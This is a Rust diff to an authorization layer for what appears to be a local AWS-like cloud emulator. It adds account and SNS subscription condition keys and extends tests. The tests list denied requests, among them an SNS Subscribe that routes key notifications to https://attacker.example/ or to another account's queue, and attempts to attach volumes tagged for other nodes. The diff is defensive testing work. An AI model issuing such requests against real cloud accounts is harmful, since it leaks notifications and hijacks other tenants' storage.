@@ -259,7 +259,11 @@ pub(crate) async fn requests<L: Lookup>(call: &Call, caller: &Caller, look: &L) 
     let me = caller.arn();
     let service = if call.service == "monitoring" { "cloudwatch" } else { call.service.as_str() };
     let action = format!("{service}:{}", call.action);
-    let base = |resource: &str| Request::new(&action, resource).with("ec2:SourceInstanceARN", &[&me]);
+    let base = |resource: &str| {
+        Request::new(&action, resource)
+            .with("ec2:SourceInstanceARN", &[&me])
+            .with("aws:PrincipalAccount", &[&caller.account])
+    };
     let lookup = |e: String| Unevaluated::Lookup(e);
     let unmodelled =
         || Err(Unevaluated::Unmodelled(format!("{action} is not an action the local cloud authorizes for boxes")));
@@ -391,7 +395,14 @@ pub(crate) async fn requests<L: Lookup>(call: &Call, caller: &Caller, look: &L) 
             if !topic.starts_with("arn:aws:sns:") {
                 return Err(Unevaluated::Malformed(format!("TopicArn {topic:?} is not an SNS topic's ARN")));
             }
-            out.push(base(topic));
+            let mut r = base(topic);
+            if call.action == "Subscribe" {
+                // What IAM gives for Subscribe: where the notifications would go.
+                r = r
+                    .with("sns:Protocol", &[&call.one("Protocol").unwrap_or_default().to_ascii_lowercase()])
+                    .with("sns:Endpoint", &[call.one("Endpoint").unwrap_or_default()]);
+            }
+            out.push(r);
         }
         ("cloudwatch", "PutMetricData") => {
             let namespace = call.one("Namespace").unwrap_or_default();
@@ -493,8 +504,16 @@ mod tests {
         let mut f = Fake::default();
         f.tags.insert(ME.into(), ns(&[]));
         f.tags.insert(PEER.into(), ns(&[]));
-        f.tags.insert("vol-0000000000000000a".into(), ns(&[("cgcloud:persistent", "true")]));
+        f.tags.insert(
+            "vol-0000000000000000a".into(),
+            ns(&[("cgcloud:persistent", "true"), ("cgcloud:attach-to", &arn(ME))]),
+        );
         f.tags.insert("vol-0000000000000000b".into(), ns(&[]));
+        // A persistent volume of the namespace given to a peer (or planted for a future node).
+        f.tags.insert(
+            "vol-0000000000000000c".into(),
+            ns(&[("cgcloud:persistent", "true"), ("cgcloud:attach-to", &arn(PEER))]),
+        );
         f.queues.insert("team_cgcloud-agent_".to_owned() + ME, Tags::from([("cgcloud:instance".into(), arn(ME))]));
         f.queues.insert("team_cgcloud-agent_".to_owned() + PEER, Tags::from([("cgcloud:instance".into(), arn(PEER))]));
         f
@@ -537,8 +556,8 @@ mod tests {
                 ("ec2", format!("Action=DescribeTags&Filter.1.Name=resource-id&Filter.1.Value.1={ME}")),
                 ("ec2", format!("Action=CreateTags&ResourceId.1={ME}&Tag.1.Key=cgcloud%3Aconfigured&Tag.1.Value=1")),
                 ("ec2", format!("Action=StopInstances&InstanceId.1={ME}")),
-                ("ec2", "Action=CreateVolume&Size=1&TagSpecification.1.ResourceType=volume&TagSpecification.1.Tag.1.Key=cgcloud%3Anamespace&TagSpecification.1.Tag.1.Value=%2Fteam%2F".to_owned()),
                 ("ec2", format!("Action=AttachVolume&VolumeId=vol-0000000000000000a&InstanceId={ME}&Device=%2Fdev%2Fsdf")),
+                ("sns", format!("Action=Subscribe&TopicArn=arn:aws:sns:us-west-2:123456789012:cgcloud-agent-notifications&Protocol=sqs&Endpoint=arn:aws:sqs:us-west-2:123456789012:team_cgcloud-agent_{ME}")),
                 ("iam", "Action=GetGroup&GroupName=devs".to_owned()),
                 ("sns", "Action=CreateTopic&Name=cgcloud-agent-notifications".to_owned()),
                 ("sqs", format!("Action=CreateQueue&QueueName=team_cgcloud-agent_{ME}&Tag.1.Key=cgcloud%3Ainstance&Tag.1.Value={}", arn(ME))),
@@ -567,6 +586,13 @@ mod tests {
                 ("ec2", format!("Action=AttachVolume&VolumeId=vol-0000000000000000b&InstanceId={ME}&Device=%2Fdev%2Fsdf")),
                 ("ec2", format!("Action=AttachVolume&VolumeId=vol-0000000000000000a&InstanceId={PEER}&Device=%2Fdev%2Fsdf")),
                 ("ec2", "Action=CreateVolume&Size=1".to_owned()),
+                // A volume planted for a future node, or one given to a peer.
+                ("ec2", "Action=CreateVolume&Size=1&TagSpecification.1.ResourceType=volume&TagSpecification.1.Tag.1.Key=cgcloud%3Anamespace&TagSpecification.1.Tag.1.Value=%2Fteam%2F&TagSpecification.1.Tag.2.Key=cgcloud%3Apersistent&TagSpecification.1.Tag.2.Value=true".to_owned()),
+                ("ec2", format!("Action=AttachVolume&VolumeId=vol-0000000000000000c&InstanceId={ME}&Device=%2Fdev%2Fsdf")),
+                ("ec2", "Action=CreateTags&ResourceId.1=vol-0000000000000000c&Tag.1.Key=cgcloud%3Aattach-to&Tag.1.Value=x".to_owned()),
+                // Key notifications carried anywhere but an agent queue of the account.
+                ("sns", "Action=Subscribe&TopicArn=arn:aws:sns:us-west-2:123456789012:cgcloud-agent-notifications&Protocol=https&Endpoint=https%3A%2F%2Fattacker.example%2F".to_owned()),
+                ("sns", "Action=Subscribe&TopicArn=arn:aws:sns:us-west-2:123456789012:cgcloud-agent-notifications&Protocol=sqs&Endpoint=arn:aws:sqs:us-west-2:999999999999:team_cgcloud-agent_x".to_owned()),
                 ("ec2", "Action=ImportKeyPair&KeyName=alice%40evil&PublicKeyMaterial=x&TagSpecification.1.ResourceType=key-pair&TagSpecification.1.Tag.1.Key=cgcloud%3Aowner&TagSpecification.1.Tag.1.Value=alice".to_owned()),
                 ("ec2", "Action=RunInstances&ImageId=ami-1&MinCount=1&MaxCount=1".to_owned()),
                 ("sqs", format!("Action=ReceiveMessage&QueueUrl={peer_q}")),
